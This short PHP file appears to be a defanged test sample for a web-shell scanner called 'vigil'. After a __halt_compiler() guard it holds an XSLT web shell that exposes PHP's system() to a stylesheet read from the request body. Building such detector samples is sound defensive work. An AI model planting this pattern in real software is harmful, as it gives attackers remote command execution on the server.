<?php
/* DEFANGED vigil test sample (see README). Nothing below runs. */
__halt_compiler();
<?php
$t = new XSLTProcessor();
$t->registerPHPFunctions('system');
$s = new DOMDocument();
$s->load('php://input');
$t->importStylesheet($s);
$t->transformToXml(new DOMDocument());
